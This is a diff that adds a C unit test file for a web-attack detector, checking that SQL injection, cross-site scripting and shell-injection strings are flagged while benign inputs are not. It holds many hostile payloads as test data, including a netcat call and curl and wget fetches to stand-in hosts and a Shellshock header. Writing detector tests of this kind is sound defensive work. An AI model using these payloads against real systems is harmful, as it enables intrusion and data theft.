@@ -1,0 +1,163 @@
+#include "webstruct.h"
+
+#include <criterion/criterion.h>
+#include <string.h>
+
+static fk_webstruct *ws;
+
+static void setup(void)
+{
+    fk_err err;
+    cr_assert_eq(fk_webstruct_new(&ws, &err), 0, "%s", err.msg);
+}
+
+static void teardown(void)
+{
+    fk_webstruct_free(ws);
+}
+
+TestSuite(webstruct, .init = setup, .fini = teardown);
+
+static bool sqli(const char *v)
+{
+    const char *why = NULL;
+    return fk_webstruct_sqli(v, strlen(v), FK_WS_PARAM, &why);
+}
+
+static bool xss(const char *v)
+{
+    const char *why = NULL;
+    return fk_webstruct_xss(v, strlen(v), FK_WS_PARAM, &why);
+}
+
+static bool shell(const char *v, fk_webstruct_field f)
+{
+    const char *why = NULL;
+    return fk_webstruct_shell(ws, v, strlen(v), f, &why);
+}
+
+Test(webstruct, sql_shapes_in_each_quoting_context)
+{
+    static const char *const attacks[] = {
+        "1' or '7'='7",
+        "x\" or 2>1 -- ",
+        "10 and 5=5",
+        "5 union all select password, 2 from accounts",
+        "abc'); drop table orders; --",
+        "7 and benchmark(1000000,md5(1))",
+        "x' and extractvalue(3,concat(0x3a,version())) and 'a'='a",
+        "1;waitfor delay '0:0:9'",
+        "' having 1=1 --",
+        "9 order by 12",
+        "name' --",
+        "(select top 1 name from sysobjects)",
+        "1 and 1=(select count(*) from information_schema.tables)",
+        "id::text",
+        "@@hostname",
+    };
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
+        cr_assert(sqli(attacks[i]), "missed: %s", attacks[i]);
+    static const char *const benign[] = {
+        "o'reilly and sons",     "rock and roll",
+        "union station tickets", "select your plan from the list below",
+        "waitfor delay meaning", "case when excel",
+        "it's a 1=1 tie",        "price 5 or more",
+        "don't drop the ball",   "tom & jerry",
+        "c++ vector sort",       "a-b-c",
+    };
+    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++)
+        cr_assert_not(sqli(benign[i]), "false alarm: %s", benign[i]);
+}
+
+Test(webstruct, markup_and_script_breakouts)
+{
+    static const char *const attacks[] = {
+        "<script>x()</script>",
+        "<img src=1 onerror=go()>",
+        "<svg/onload=x>",
+        "\" onfocus=\"x()\" autofocus=\"",
+        "<a href=\"java\tscript:x()\">",
+        "javascript:void(0)",
+        "';alert(document.domain)//",
+        "\"-prompt(1)-\"",
+        "<iframe src=//example.org>",
+        "${alert(1)}",
+        "{{constructor.constructor('x')()}}",
+        "<div style=\"width:expression(x())\">",
+    };
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
+        cr_assert(xss(attacks[i]), "missed: %s", attacks[i]);
+    static const char *const benign[] = {
+        "<b>bold</b> text",
+        "a < b and c > d",
+        "it's \"quoted\" - ok",
+        "mailto:user@example.jp",
+        "https://www.example.jp/?a=1",
+        "<?xml version=\"1.0\"?>",
+        "3 < 4",
+        "price: $5 {sale}",
+    };
+    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++)
+        cr_assert_not(xss(benign[i]), "false alarm: %s", benign[i]);
+}
+
+Test(webstruct, shell_commands_by_grammar_and_by_name)
+{
+    static const char *const attacks[] = {
+        "127.0.0.1; uname -a",
+        "x|nc 192.0.2.1 4444",
+        "a && curl http://example.org/x",
+        "$(id)",
+        "`whoami`",
+        "1;id",
+        "x; /usr/bin/env",
+        "w'h'o'am'i; cat /etc/hostname",
+        "a;c\\at /etc/issue",
+        "ti''me sleep 5",
+        "$((1+1))",
+        "${path:0:1}",
+        "/us[r]/bi[n]/id",
+        "x & ipconfig /all",
+        "for /f %i in ('ver') do echo %i",
+        "a\nrcpt to:<x@example.org>",
+    };
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
+        cr_assert(shell(attacks[i], FK_WS_PARAM), "missed: %s", attacks[i]);
+    static const char *const benign[] = {
+        "php;ruby",    "cat food grain free",     "linux ls command options",
+        "red;$5 each", "/etc/passwd file format", "time to go",
+        "tom & jerry", "1/[a-z]{1,5}/",           "sort=name;desc",
+    };
+    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++)
+        cr_assert_not(shell(benign[i], FK_WS_PARAM), "false alarm: %s", benign[i]);
+    /* headers: a browser's comment lists locales and CPUs after ';' */
+    static const char *const agents[] = {
+        "mozilla/5.0 (x11; u; linux arm; id) applewebkit/534.30",
+        "opera/9.80 (android; opera mini/7.5; u; id) presto/2.8.119",
+        "mozilla/5.0 (windows nt 6.2; arm; trident/7.0; touch; rv:11.0)",
+    };
+    for (size_t i = 0; i < sizeof agents / sizeof agents[0]; i++)
+        cr_assert_not(shell(agents[i], FK_WS_HEADER), "false alarm: %s", agents[i]);
+    cr_assert(shell("() { :; }; /bin/cat /etc/hostname", FK_WS_HEADER));
+    cr_assert(shell("x; wget http://example.org/a -o /tmp/a", FK_WS_HEADER));
+    cr_assert(shell(";env", FK_WS_HEADER), "a header that starts with an operator");
+    /* a path starts with a slash, not with a command */
+    cr_assert_not(shell("/test", FK_WS_PATH));
+    cr_assert_not(shell("/login", FK_WS_PATH));
+}
+
+static int count_hits(void *ctx, const fk_webstruct_hit *h)
+{
+    int *n = ctx;
+    (*n)++;
+    cr_assert_not_null(h->why);
+    return 0;
+}
+
+Test(webstruct, scan_reports_one_hit_per_family)
+{
+    int n = 0;
+    const char *v = "1' union select 1,2 from users; cat /etc/hostname --";
+    cr_assert_eq(fk_webstruct_scan(ws, v, strlen(v), FK_WS_PARAM, count_hits, &n), 2);
+    cr_assert_eq(n, 2, "sqli and rce");
+}
